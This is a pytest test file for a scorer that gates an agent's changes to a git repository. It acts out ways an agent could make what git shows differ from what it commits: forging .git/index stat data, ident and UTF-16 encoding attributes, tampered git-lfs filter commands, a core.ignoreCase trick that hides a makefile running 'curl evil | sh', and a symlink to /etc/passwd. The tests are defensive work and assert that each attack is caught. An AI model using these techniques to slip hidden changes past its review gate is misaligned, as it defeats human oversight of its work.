"""What is scored must be exactly what git will record, and scoring hostile input stays bounded.

Each door is an attack on a real repository by an agent that controls the working tree,
.git/index, .git/info/attributes and .git/config, followed by the next variant of the same
root cause and by the legitimate neighbour that must still PASS.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import struct
import subprocess
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import TypeVar

import pytest

from scorer.checks.content import check_added_tokens
from scorer.checks.job import Job
from scorer.inspection import worktree
from scorer.inspection.git import PINNED_ARGS
from scorer.manifest.load import parse_manifest
from scorer.model import AddedText
from tests.testing.repo import GitRepo, Outcome, run_cli

SKIPPED = "RESULT: PASS (with test skipped)"
TOKEN = "eval("
T = TypeVar("T")


def passed(out: Outcome) -> bool:
    return out.exit_code == 0 and out.codes == set() and out.last_line == SKIPPED


def failed_with(out: Outcome, *codes: str) -> bool:
    return out.exit_code == 1 and set(codes) <= out.codes and out.last_line == "RESULT: FAIL"


def messages(out: Outcome, code: str) -> list[str]:
    return [v["message"] for v in out.report["violations"] if v["code"] == code]


# --- the stat cache is not evidence ----------------------------------------------------------------


def forge_stat(repo: GitRepo, *paths: str) -> None:
    """Copy each working-tree file's stat data into its .git/index entry, as an agent can.

    git then takes the file for the indexed blob: `git status` shows nothing, and `git diff HEAD`
    reads the patch from the working tree while `git commit` records the staged blob.
    """
    index = repo.root / ".git/index"
    data = bytearray(index.read_bytes())
    signature, version, count = struct.unpack(">4sII", data[:12])
    assert signature == b"DIRC" and version in (2, 3)
    wanted = {os.fsencode(p) for p in paths}
    pos = 12
    for _ in range(count):
        flags = struct.unpack(">H", data[pos + 60 : pos + 62])[0]
        name_at = pos + 62 + (2 if version >= 3 and flags & 0x4000 else 0)
        end = data.index(b"\0", name_at)
        name = bytes(data[name_at:end])
        if name in wanted:
            st = os.lstat(repo.root / os.fsdecode(name))
            mode = struct.unpack(">I", data[pos + 24 : pos + 28])[0]
            data[pos : pos + 40] = struct.pack(
                ">10I",
                int(st.st_ctime) & 0xFFFFFFFF,
                st.st_ctime_ns % 10**9,
                int(st.st_mtime) & 0xFFFFFFFF,
                st.st_mtime_ns % 10**9,
                st.st_dev & 0xFFFFFFFF,
                st.st_ino & 0xFFFFFFFF,
                mode,
                st.st_uid,
                st.st_gid,
                st.st_size & 0xFFFFFFFF,
            )
            wanted.discard(name)
        pos += ((end - pos) // 8 + 1) * 8
    assert not wanted, f"not in the index: {wanted}"
    body = bytes(data[:-20])
    index.write_bytes(body + hashlib.sha1(body).digest())


def age(repo: GitRepo, *paths: str) -> None:
    """Move files' mtime a minute back, so the forged entry is not racily clean (git would re-read it)."""
    for p in paths:
        st = os.lstat(repo.root / p)
        os.utime(repo.root / p, ns=(st.st_atime_ns, st.st_mtime_ns - 60 * 10**9))


def stage_then_swap(repo: GitRepo, path: str, staged: str, on_disk: str) -> None:
    """Stage `staged`, put `on_disk` in the working tree, and make git's stat cache vouch for it."""
    repo.write(path, staged)
    repo.git("add", "--", path)
    repo.write(path, on_disk)
    age(repo, path)
    forge_stat(repo, path)


def test_forged_stat_data_makes_git_show_the_disk_and_commit_the_index(base: GitRepo) -> None:
    """The attack itself, in git alone: what git shows is not what it commits."""
    stage_then_swap(base, "allowed/t.py", "one\nx = eval(1)\nthree\n", "one\nfine(1)\nthree\n")
    assert base.git("status", "--porcelain").stdout == "M  allowed/t.py\n"  # nothing unstaged, says git
    assert "+fine(1)" in base.git("diff", "HEAD").stdout
    base.git("commit", "-q", "--no-verify", "-m", "x")
    assert "eval(" in base.git("show", "HEAD:allowed/t.py").stdout


@pytest.mark.parametrize("on_disk", ["one\nfine(1)\nthree\n", "one\ntwo\nthree\n"], ids=["other", "as-head"])
def test_staged_blob_behind_forged_stat_data_is_scored(base: GitRepo, on_disk: str) -> None:
    stage_then_swap(base, "allowed/t.py", "one\nx = eval(1)\nthree\n", on_disk)
    base.write("allowed/other.py", "an innocent change\n")
    out = base.score()
    assert failed_with(out, "hidden-change", "forbidden-token")
    assert out.paths("hidden-change") == {"allowed/t.py"}
    assert ("allowed/t.py", 2) in out.where("forbidden-token")  # the staged blob's line, as it is committed


def test_staged_path_outside_the_fence_behind_forged_stat_data(base: GitRepo) -> None:
    """The disk holds HEAD's content, so git diff HEAD shows no hunk at all for the fenced file."""
    stage_then_swap(base, "other/t.py", "one\nx = eval(1)\nthree\n", "one\ntwo\nthree\n")
    base.write("allowed/t.py", "one\n2\nthree\n")
    out = base.score()
    assert failed_with(out, "hidden-change", "unlisted-path")
    assert out.paths("hidden-change") == {"other/t.py"}
    assert "other/t.py" in out.paths("unlisted-path")


def test_new_file_staged_behind_forged_stat_data(base: GitRepo) -> None:
    stage_then_swap(base, "allowed/new.py", "x = eval(1)\n", "x = 1\n")
    out = base.score()
    assert failed_with(out, "hidden-change", "forbidden-token")
    assert out.paths("hidden-change") == {"allowed/new.py"}


def test_staged_symlink_behind_a_regular_file(base: GitRepo) -> None:
    """The index holds a symlink to /etc/passwd; the disk a file. Modes are compared, not only bytes."""
    base.manifest(allowed_paths=["allowed/**"], allow_symlinks=True)
    base.symlink("allowed/link", "/etc/passwd")
    base.git("add", "allowed/link")
    base.remove("allowed/link")
    base.write("allowed/link", "/etc/passwd")
    age(base, "allowed/link")
    forge_stat(base, "allowed/link")
    out = base.score()
    assert out.exit_code == 1 and "hidden-change" in out.codes
    assert "allowed/link" in out.paths("hidden-change")


def test_partially_staged_path_has_its_staged_version_scored(base: GitRepo) -> None:
    """Without any forgery: stage eval(, then edit the file again. The commit records the staged version."""
    base.write("allowed/t.py", "one\nx = eval(1)\nthree\n")
    base.git("add", "allowed/t.py")
    base.write("allowed/t.py", "one\nfine(1)\nthree\n")
    out = base.score()
    assert failed_with(out, "hidden-change", "forbidden-token")
    assert out.where("forbidden-token") == {("allowed/t.py", 2)}


@pytest.mark.parametrize("how", ["stage", "stage-then-same-bytes", "stage-crlf-text-auto", "stage-and-age"])
def test_ordinary_staged_edits_still_pass(base: GitRepo, how: str) -> None:
    if how == "stage-crlf-text-auto":  # git add stores LF, the disk keeps CRLF: a known, harmless rewrite
        base.write(".gitattributes", "* text=auto\n")
        base.commit("normalise line ends")
        base.write("allowed/t.py", "one\r\n2\r\nthree\r\n")
        base.git("add", "allowed/t.py")
    else:
        base.write("allowed/t.py", "one\n2\nthree\n")
        base.git("add", "allowed/t.py")
    if how == "stage-then-same-bytes":
        base.write("allowed/t.py", "one\n2\nthree\n")
    elif how == "stage-and-age":  # stat data that matches because git wrote it, not because it was forged
        age(base, "allowed/t.py")
        base.git("update-index", "--refresh")
    out = base.score()
    assert passed(out), out.text


@pytest.fixture
def fenced(base: GitRepo, monkeypatch) -> GitRepo:
    """job_manifest.json (and its pin) committed on main: a narrow fence read from the working tree."""
    base.write_manifest(base.root / "job_manifest.json", allowed_paths=["allowed/**"])
    monkeypatch.chdir(base.root)
    assert run_cli(["pin", "--manifest", "job_manifest.json"])[0] == 0
    base.commit("fence and pin")
    base.git("checkout", "-q", "-b", "agent-x")
    base.manifest_path = Path("job_manifest.json")
    return base


def _loosen(repo: GitRepo, with_pin: bool) -> None:
    loose = repo.write_manifest(repo.root / "job_manifest.json", allowed_paths=["**"])
    touched = ["job_manifest.json"]
    if with_pin:
        digest = hashlib.sha256(loose.read_bytes()).hexdigest()
        repo.write("job_manifest.json.sha256", f"{digest}  job_manifest.json\n")
        touched.append("job_manifest.json.sha256")
    age(repo, *touched)
    forge_stat(repo, *touched)  # git: the fence is unchanged


@pytest.mark.parametrize("with_pin", [False, True], ids=["manifest", "manifest-and-pin"])
def test_manifest_loosened_on_disk_behind_forged_stat_data(fenced: GitRepo, with_pin: bool) -> None:
    """A committed fence is read at HEAD, so the loosened copy git cannot see on disk never judges."""
    if not with_pin:
        fenced.remove("job_manifest.json.sha256")
        fenced.commit("no pin")
    _loosen(fenced, with_pin)
    assert fenced.git("status", "--porcelain").stdout == ""
    fenced.write("other/t.py", "one\n2\nthree\n")
    out = fenced.score()
    assert failed_with(out, "unlisted-path")
    assert out.paths("unlisted-path") == {"other/t.py"}


def test_a_committed_pin_read_from_disk_behind_forged_stat_data(base: GitRepo, monkeypatch) -> None:
    """The pin of a manifest not committed at HEAD is read from disk: when git tracks the pin, its
    bytes must be the blob git holds, or a forged stat cache would let a rewritten pin vouch for a
    loosened manifest."""
    approved = base.write_manifest(base.root / "job_manifest.json", allowed_paths=["allowed/**"])
    digest = hashlib.sha256(approved.read_bytes()).hexdigest()
    base.write("job_manifest.json.sha256", f"{digest}  job_manifest.json\n")
    base.commit("the pin only", "job_manifest.json.sha256")
    monkeypatch.chdir(base.root)
    base.manifest_path = Path("job_manifest.json")
    base.write("allowed/t.py", "one\n2\nthree\n")
    assert base.score().exit_code == 0  # the untracked manifest matches the committed pin (with a warning)
    loose = base.write_manifest(base.root / "job_manifest.json", allowed_paths=["**"])
    base.write("job_manifest.json.sha256", f"{hashlib.sha256(loose.read_bytes()).hexdigest()}  job_manifest.json\n")
    age(base, "job_manifest.json.sha256")
    forge_stat(base, "job_manifest.json.sha256")
    assert base.git("status", "--porcelain", "--untracked-files=no").stdout == " M allowed/t.py\n"  # pin: clean
    base.write("other/t.py", "one\n2\nthree\n")
    out = base.score()
    assert failed_with(out, "hidden-change")
    assert "job_manifest.json.sha256" in out.paths("hidden-change")


def test_committed_manifest_and_pin_read_from_disk_still_pass(fenced: GitRepo) -> None:
    fenced.write("allowed/t.py", "one\n2\nthree\n")
    out = fenced.score()
    assert passed(out), out.text
    assert not out.report["warnings"]


# --- attributes and config that rewrite content on its way into the index ---------------------------

IDENT_LINE = 'x = "$Id: " + str(eval("1")) + "$"\n'  # git add collapses it to x = "$Id$"


@pytest.mark.parametrize("where", ["info/attributes", "macro", "core.attributesFile", ".gitattributes"])
def test_ident_collapses_code_that_the_test_runs(base: GitRepo, where: str) -> None:
    if where == "info/attributes":
        (base.root / ".git/info/attributes").write_text("*.py ident\n")
    elif where == "macro":
        (base.root / ".git/info/attributes").write_text("[attr]plain ident\n*.py plain\n")
    elif where == "core.attributesFile":
        attributes = base.scratch / "attributes"
        attributes.write_text("*.py ident\n")
        base.git("config", "core.attributesFile", str(attributes))
    else:
        base.write(".gitattributes", "*.py ident\n")
        base.commit("ident")
    base.write("allowed/t.py", "one\n" + IDENT_LINE + "three\n")
    assert "eval" not in base.git("diff", "HEAD").stdout  # what git shows and records: $Id$
    out = base.score()
    assert failed_with(out, "hidden-change")
    assert "allowed/t.py" in out.paths("hidden-change")
    assert any("ident" in m for m in messages(out, "hidden-change"))


def test_ident_on_a_staged_file(base: GitRepo) -> None:
    (base.root / ".git/info/attributes").write_text("*.py ident\n")
    base.write("allowed/t.py", "one\n" + IDENT_LINE + "three\n")
    base.git("add", "allowed/t.py")
    out = base.score()
    assert failed_with(out, "hidden-change")
    assert out.paths("hidden-change") == {"allowed/t.py"}


def test_ident_on_a_file_with_no_id_span_is_harmless(base: GitRepo) -> None:
    (base.root / ".git/info/attributes").write_text("*.py ident\n")
    base.write("allowed/t.py", "one\nx = '$Id$'\nthree\n")
    assert passed(base.score())


def test_working_tree_encoding_hides_text_that_git_records(base: GitRepo) -> None:
    """git add re-encodes UTF-16 to UTF-8: the file on disk reads as binary, the commit holds eval(."""
    (base.root / ".git/info/attributes").write_text("*.py working-tree-encoding=UTF-16\n")
    base.manifest(allowed_paths=["allowed/**"], forbidden_substrings=[TOKEN], allow_binary=True)
    base.write("allowed/new.py", "x = eval(1)\n".encode("utf-16"))
    out = base.score()
    assert failed_with(out, "hidden-change")
    assert out.paths("hidden-change") == {"allowed/new.py"}
    base.git("add", "allowed/new.py")
    assert "eval(" in base.git("show", ":allowed/new.py").stdout


def test_working_tree_encoding_on_a_tracked_file(base: GitRepo) -> None:
    (base.root / ".git/info/attributes").write_text("allowed/t.py working-tree-encoding=UTF-16LE\n")
    base.write("allowed/t.py", "one\n2\nthree\n".encode("utf-16-le"))
    out = base.score()
    assert failed_with(out, "hidden-change")
    assert out.paths("hidden-change") == {"allowed/t.py"}
    assert "working-tree-encoding=UTF-16LE" in messages(out, "hidden-change")[0]


@pytest.mark.parametrize("encoding", ["UTF-8", "utf8"])
def test_working_tree_encoding_utf8_is_no_rewrite(base: GitRepo, encoding: str) -> None:
    (base.root / ".git/info/attributes").write_text(f"*.py working-tree-encoding={encoding}\n")
    base.write("allowed/t.py", "one\n2\nthree\n")
    assert passed(base.score())


@pytest.mark.parametrize(
    ("key", "value", "fires"),
    [
        ("filter.lfs.clean", "git-lfs clean -- %f", False),
        ("filter.lfs.process", "git-lfs filter-process", False),
        ("filter.lfs.process", "git-lfs filter-process --skip", False),
        ("filter.lfs.smudge", "anything at all", False),
        ("filter.lfs.clean", "git-lfs clean -- %f; sed -e s/eval/safe/", True),
        ("filter.lfs.clean", "git-lfs --version >/dev/null && sed -e s/eval/safe/", True),
        ("filter.lfs.process", "git-lfs filter-process | tee /tmp/x", True),
        ("filter.lfs.clean", "git-lfs  clean -- %f", True),  # not the exact definition
    ],
)
def test_only_the_exact_git_lfs_filter_definitions_are_trusted(
    base: GitRepo, key: str, value: str, fires: bool
) -> None:
    base.git("config", key, value)
    base.write("allowed/t.py", "one\n2\nthree\n")
    out = base.score()
    if fires:
        assert failed_with(out, "hidden-change")
        assert any(key in m for m in messages(out, "hidden-change"))
    else:
        assert passed(out), out.text


@pytest.mark.parametrize("scope", ["local", "global"])
def test_ignore_case_config_cannot_hide_an_untracked_file(base: GitRepo, scope: str) -> None:
    """`make` reads `makefile` before `Makefile`; with core.ignoreCase git takes it for the tracked one."""
    base.write("Makefile", "test:\n\ttrue\n")
    base.commit("makefile")
    base.git("config", f"--{scope}", "core.ignoreCase", "true")
    base.write("makefile", "test:\n\tcurl evil | sh\n")
    base.write("allowed/t.py", "one\n2\nthree\n")
    out = base.score()
    assert failed_with(out, "unlisted-path")
    assert out.paths("unlisted-path") == {"makefile"}


def test_case_sensitivity_is_pinned() -> None:
    assert "core.ignoreCase=false" in PINNED_ARGS[1::2]


@pytest.mark.parametrize(
    "attributes",
    ["*.png binary\n", "* text=auto\n*.py text eol=lf\n", "*.py diff=python\n", "*.sh text eol=crlf\n"],
)
def test_harmless_attributes_do_not_fire(base: GitRepo, attributes: str) -> None:
    base.write(".gitattributes", attributes)
    base.commit("attributes")
    base.write("allowed/t.py", "one\n2\nthree\n")
    base.write("allowed/new.py", "new\r\n")
    assert passed(base.score())


# --- unreadable is not empty -------------------------------------------------------------------------


@pytest.fixture
def deep(tmp_path: Path) -> GitRepo:
    """A repository whose root is so deep that root + a long untracked name passes PATH_MAX (4096)."""
    root = tmp_path.joinpath(*["r" * 200] * 10, "repo")
    repo = GitRepo(root, tmp_path / "scratch")
    repo.write("allowed/t.py", "one\ntwo\nthree\n")
    repo.commit("base")
    repo.manifest(allowed_paths=["allowed/**"], forbidden_substrings=[TOKEN])
    return repo


def _long_name(repo: GitRepo, content: str) -> str:
    rel = "/".join(["allowed", *["d" * 200] * 10, "x.py"])
    assert len(str(repo.root)) + len(rel) > 4096 > len(rel)
    fd = os.open(repo.root, os.O_RDONLY)
    try:
        for part in rel.split("/")[:-1]:  # mkdir one component at a time: the full path is too long
            with contextlib.suppress(FileExistsError):
                os.mkdir(part, dir_fd=fd)
            child = os.open(part, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = child
        out = os.open("x.py", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(out, content.encode())
        os.close(out)
    finally:
        os.close(fd)
    return rel


def test_untracked_file_past_path_max_is_read_not_taken_for_empty(deep: GitRepo) -> None:
    rel = _long_name(deep, "x = eval(1)\n")
    assert rel in deep.git("ls-files", "-o").stdout  # git sees it, relative to its root
    out = deep.score()
    assert failed_with(out, "forbidden-token")
    assert out.where("forbidden-token") == {(rel, 1)}


@pytest.mark.parametrize(
    "error",
    [
        PermissionError(13, "Permission denied"),
        OSError(36, "File name too long"),
        FileNotFoundError(2, "No such file or directory"),
    ],
    ids=["permission", "name-too-long", "vanished"],
)
def test_any_error_reading_an_untracked_file_fails_naming_it(base: GitRepo, monkeypatch, error: OSError) -> None:
    """Root reads every file, so the OS's refusal is simulated at the one call that opens it; a file that
    vanishes between git's listing and the read (a race) is unreadable too, not empty."""
    base.write("allowed/new.py", "x = eval(1)\n")
    real_open = os.open

    def refuse(path, flags, *args, **kwargs):
        if os.fsdecode(path).endswith("new.py"):
            if isinstance(error, FileNotFoundError):
                base.remove("allowed/new.py")  # really gone, not only refused
                return real_open(path, flags, *args, **kwargs)
            raise error
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(worktree.os, "open", refuse)
    out = base.score()
    assert failed_with(out, "hidden-change")
    assert out.paths("hidden-change") == {"allowed/new.py"}
    assert str(error.strerror) in messages(out, "hidden-change")[0]


def test_untracked_file_under_a_directory_swapped_for_a_symlink_is_not_followed(base: GitRepo, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.py").write_text("x = eval(1)\n")
    (base.root / "allowed/sub").symlink_to(outside)
    got = worktree.read_untracked(str(base.root), "allowed/sub/x.py")
    assert got.error and not got.data


def test_worktree_evidence_past_path_max_is_read(deep: GitRepo) -> None:
    rel = _long_name(deep, "one\ntwo\n")
    assert worktree.read_worktree_file(str(deep.root), rel) == b"one\ntwo\n"


def test_changed_files_read_in_a_batch_are_read_past_path_max_and_never_through_a_link(
    deep: GitRepo, tmp_path: Path
) -> None:
    rel = _long_name(deep, "one\ntwo\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.py").write_text("x = eval(1)\n")
    (deep.root / "allowed/link").symlink_to(outside)
    found = worktree.read_worktree_files(str(deep.root), [rel, "allowed/t.py", "allowed/link/x.py", "allowed/no.py"])
    assert found == {
        rel: b"one\ntwo\n",
        "allowed/t.py": b"one\ntwo\nthree\n",
        "allowed/link/x.py": None,
        "allowed/no.py": None,
    }


def test_unreadable_worktree_evidence_is_an_error_not_absent(base: GitRepo, monkeypatch) -> None:
    real_open = os.open

    def refuse(path, flags, *args, **kwargs):
        if os.fsdecode(path).endswith("t.py"):
            raise PermissionError(13, "Permission denied")
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(worktree.os, "open", refuse)
    with pytest.raises(worktree.UnreadableFile, match=r"allowed/t\.py.*Permission denied"):
        worktree.read_worktree_file(str(base.root), "allowed/t.py")
    assert worktree.read_worktree_file(str(base.root), "allowed/missing.py") is None


# --- LFS pointers are opaque content -----------------------------------------------------------------

POINTER = (
    "version https://git-lfs.github.com/spec/v1\n"
    "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n"
)


@pytest.fixture
def lfs(base: GitRepo) -> GitRepo:
    base.write(".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n")
    base.commit("lfs")
    base.git("checkout", "-q", "-b", "agent-x")
    return base


@pytest.mark.parametrize("mode", ["untracked", "staged", "range"])
def test_lfs_pointer_is_binary_content(lfs: GitRepo, mode: str) -> None:
    lfs.write("allowed/model.bin", POINTER)
    if mode == "staged":
        lfs.git("add", "allowed/model.bin")
    elif mode == "range":
        lfs.commit("model")
    out = lfs.score(*(["--base", "main"] if mode == "range" else []))
    assert failed_with(out, "binary-file")
    assert out.paths("binary-file") == {"allowed/model.bin"}
    assert "LFS" in messages(out, "binary-file")[0]
    assert out.changed["allowed/model.bin"]["binary"] is True


def test_lfs_pointer_modified_in_range_mode(lfs: GitRepo) -> None:
    lfs.manifest(allowed_paths=["allowed/**"], allow_binary=True)
    lfs.write("allowed/model.bin", POINTER)
    first = lfs.commit("model")
    lfs.manifest(allowed_paths=["allowed/**"])
    lfs.write("allowed/model.bin", POINTER.replace("12345", "54321"))
    lfs.commit("new model")
    out = lfs.score("--base", first)
    assert failed_with(out, "binary-file")


@pytest.mark.parametrize("where", ["committed-by-agent", "nested", "info/attributes", "macro"])
def test_lfs_tracking_introduced_by_the_agent(base: GitRepo, where: str) -> None:
    base.git("checkout", "-q", "-b", "agent-x")
    base.manifest(
        allowed_paths=["allowed/**", ".gitattributes"], forbidden_substrings=[TOKEN], sensitive_exempt=["gate-config"]
    )
    if where == "committed-by-agent":
        base.write(".gitattributes", "allowed/*.py filter=lfs\n")
    elif where == "nested":
        base.manifest(allowed_paths=["allowed/**"], forbidden_substrings=[TOKEN], sensitive_exempt=["gate-config"])
        base.write("allowed/.gitattributes", "*.py filter=lfs\n")
    elif where == "info/attributes":
        (base.root / ".git/info/attributes").write_text("allowed/*.py filter=lfs\n")
    else:
        base.write(".gitattributes", "[attr]big filter=lfs -text\nallowed/*.py big\n")
    base.write("allowed/t.py", POINTER)
    if where != "info/attributes":
        base.commit("pointer")
        out = base.score("--base", "main")
    else:
        out = base.score()
    assert failed_with(out, "binary-file")
    assert "allowed/t.py" in out.paths("binary-file")


def test_a_driver_configured_exactly_as_git_lfs_is_lfs(base: GitRepo) -> None:
    base.git("config", "filter.big.clean", "git-lfs clean -- %f")
    base.git("config", "filter.big.process", "git-lfs filter-process")
    base.write(".gitattributes", "*.bin filter=big\n")
    base.commit("big files")
    base.write("allowed/model.bin", POINTER)
    out = base.score()
    assert failed_with(out, "binary-file")
    assert "filter=big" in messages(out, "binary-file")[0]


def test_other_filter_names_are_not_taken_for_lfs(base: GitRepo) -> None:
    """`filter=nbstripout` with no driver configured here stores the bytes as they are: plain text."""
    base.write(".gitattributes", "*.ipynb filter=nbstripout\n")
    base.commit("notebooks")
    base.manifest(allowed_paths=["allowed/**"], forbidden_substrings=[TOKEN])
    base.write("allowed/n.ipynb", '{"cells": []}\n')
    assert passed(base.score())
    base.write("allowed/n.ipynb", '{"cells": ["eval(1)"]}\n')
    assert failed_with(base.score(), "forbidden-token")


def test_a_staged_lfs_pointer_is_checked_against_the_file_by_its_own_digest(lfs: GitRepo) -> None:
    from scorer.inspection import evidence
    from scorer.inspection.git import Repository

    content = b"\x00model weights\n" * 100
    lfs.write("allowed/model.bin", content)
    pointer = (
        f"version https://git-lfs.github.com/spec/v1\noid sha256:{hashlib.sha256(content).hexdigest()}\n"
        f"size {len(content)}\n"
    )
    right = (
        subprocess.run(
            ["git", "hash-object", "-w", "--stdin"],
            cwd=lfs.root,
            input=pointer.encode(),
            capture_output=True,
            check=True,
        )
        .stdout.decode()
        .strip()
    )
    wrong = (
        subprocess.run(
            ["git", "hash-object", "-w", "--stdin"],
            cwd=lfs.root,
            input=POINTER.encode(),
            capture_output=True,
            check=True,
        )
        .stdout.decode()
        .strip()
    )
    repo = Repository(lfs.root)
    try:
        assert evidence._is_lfs_pointer_to(repo, right, "allowed/model.bin")
        assert not evidence._is_lfs_pointer_to(repo, wrong, "allowed/model.bin")
    finally:
        repo.close()


def test_lfs_content_passes_when_binary_is_allowed(lfs: GitRepo) -> None:
    lfs.manifest(allowed_paths=["allowed/**"], allow_binary=True)
    lfs.write("allowed/model.bin", POINTER)
    assert passed(lfs.score())
    lfs.commit("model")
    assert passed(lfs.score("--base", "main"))


def test_lfs_attributes_do_not_touch_other_paths(lfs: GitRepo) -> None:
    lfs.write("allowed/t.py", "one\n2\nthree\n")
    assert passed(lfs.score())
    lfs.commit("edit")
    assert passed(lfs.score("--base", "main"))


# --- bounded work on hostile input -------------------------------------------------------------------


def _job(**fields) -> Job:
    data = {"job_id": "j", "allowed_paths": ["**"], "required_test": ["true"], **fields}
    return Job(parse_manifest(json.dumps(data).encode(), "test"))


def _peak(fn: Callable[[], T]) -> tuple[T, int]:
    tracemalloc.start()
    try:
        result = fn()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("prefix", ["", "é"], ids=["ascii", "nfkc-view"])
def test_one_long_line_of_hits_is_bounded_in_memory(prefix: str) -> None:
    """60 KB of `eval(` on one line: every hit used to keep its own copy of the whole line (0.77 GB)."""
    line = prefix + TOKEN * 12_000 + "\n"
    added = AddedText(line, (0,), (("a.py", 1),))
    found, peak = _peak(lambda: check_added_tokens(added, _job(forbidden_substrings=[TOKEN])))
    assert peak < 20 * len(line) + 1_000_000, peak
    assert [(v.path, v.line) for v in found] == [("a.py", 1)]  # one violation per line, not per hit


def test_a_match_keeps_a_bounded_piece_of_its_line() -> None:
    """Each match carries its line around it for the detectors' judges: at most CONTEXT characters on
    either side, so 12,000 matches on a 60 KB line copy 6 MB at most, not 12,000 lines."""
    from scorer.model import CONTEXT

    line = "x = " + TOKEN * 12_000 + "\n"
    hits = list(AddedText(line, (0,), (("a.py", 1),)).search(re.compile(re.escape(TOKEN))))
    assert len(hits) == 12_000
    assert sum(len(h.context) for h in hits) <= len(hits) * (2 * CONTEXT + len(TOKEN))
    assert hits[0].context == line[: len(TOKEN) + 4 + CONTEXT]
    assert hits[-1].context == line[len(line) - 1 - len(TOKEN) - CONTEXT : -1]


@pytest.mark.parametrize("seed", range(5))
def test_a_matchs_context_is_its_line_cut_around_it(seed: int) -> None:
    import random

    from scorer.model import CONTEXT

    rng = random.Random(seed)
    lines = ["".join(rng.choice("ab e\r") for _ in range(rng.randint(0, 700))) for _ in range(6)]
    text = "\n".join(lines) + "\n"
    second = len(lines[0]) + 1
    added = AddedText(text, (0, second), (("p", 1), ("q", 1)))
    for view in (None, text.replace("\r", "\n")):
        subject = text if view is None else view
        pattern = re.compile("ab|e")
        for hit, m in zip(added.search(pattern, view), pattern.finditer(subject), strict=True):
            begin = subject.rfind("\n", 0, m.start()) + 1
            end = subject.find("\n", m.start())
            assert hit.context == subject[max(begin, m.start() - CONTEXT) : min(end, m.end() + CONTEXT)]


def test_millions_of_hits_are_counted_not_kept() -> None:
    text = (TOKEN + "\n") * 1_000_000
    added = AddedText(text, (0,), (("a.py", 1),))
    job = _job(forbidden_substrings=[TOKEN], forbidden_patterns=[r"^eval"])
    found, peak = _peak(lambda: check_added_tokens(added, job))
    assert peak < 2 * len(text) + 1_000_000, peak
    assert len(found) <= 2 * 101
    summaries = [v for v in found if "not listed" in v.message]
    assert len(summaries) == 2


def test_the_token_scan_stops_once_the_listing_is_full(monkeypatch) -> None:
    """Counted, not timed: a flood of hits costs at most a listing's worth of matches per pattern."""
    consumed = [0]
    real_search = AddedText.search

    def counting(self, pattern, view=None):
        for hit in real_search(self, pattern, view):
            consumed[0] += 1
            yield hit

    monkeypatch.setattr(AddedText, "search", counting)
    added = AddedText((TOKEN + "\n") * 100_000, (0,), (("a.py", 1),))
    check_added_tokens(added, _job(forbidden_substrings=[TOKEN]))
    assert consumed[0] <= 102


def test_a_flood_of_hits_is_still_a_fail_that_says_why(base: GitRepo) -> None:
    base.write("allowed/flood.py", (TOKEN + "1)\n") * 50_000 + "x = " + TOKEN * 12_000 + "\n")
    out = base.score()
    assert failed_with(out, "forbidden-token")
    found = messages(out, "forbidden-token")
    assert len(found) <= 101
    assert any("not listed" in m for m in found)


def test_a_line_of_hits_scores_in_bounded_memory_end_to_end(base: GitRepo) -> None:
    """The whole pipeline, token check and secret/risky-shell detectors alike, on 60 KB lines of hits."""
    base.manifest(allowed_paths=["allowed/**"], forbidden_substrings=[TOKEN], forbidden_patterns=[r"eval\("])
    base.write("allowed/t.py", "one\n" + TOKEN * 12_000 + "\n" + "chmod 777 x; " * 5_000 + "\nthree\n")
    out, peak = _peak(base.score)
    assert peak < 50_000_000, peak
    assert failed_with(out, "forbidden-token", "risky-shell")
    assert out.where("forbidden-token") == {("allowed/t.py", 2)}


def test_unreadable_justification_evidence_stops_scoring_naming_it(repo: GitRepo, monkeypatch, tmp_path) -> None:
    """Evidence that exists but cannot be read used to read as 'does not exist'; it is an error now."""
    migration = "migrations/0042_add_users_index.sql"
    repo.write("src/db/users.py", "def find(email):\n    return email\n")
    repo.commit("initial")
    repo.manifest(allowed_paths=[migration, "src/**"])
    repo.write(migration, "CREATE INDEX idx_users_email ON users(email);\n")
    msg = tmp_path / "COMMIT_EDITMSG"
    msg.write_text(
        f"x\n\nBlast-Radius: {migration}\nJustification: src/db/users.py:2 login scans\n"
        "Rollback: DROP INDEX idx_users_email;\n",
        encoding="utf-8",
    )
    assert repo.score("--message-file", str(msg)).exit_code == 0
    real_open = os.open

    def refuse(path, flags, *args, **kwargs):
        if os.fsdecode(path) == "users.py":
            raise PermissionError(13, "Permission denied")
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(worktree.os, "open", refuse)
    out = repo.score("--message-file", str(msg))
    assert out.exit_code == 2 and out.last_line.startswith("RESULT: FAIL (could not score")
    assert "src/db/users.py" in out.report["violations"][0]["message"]
    assert "Permission denied" in out.report["violations"][0]["message"]
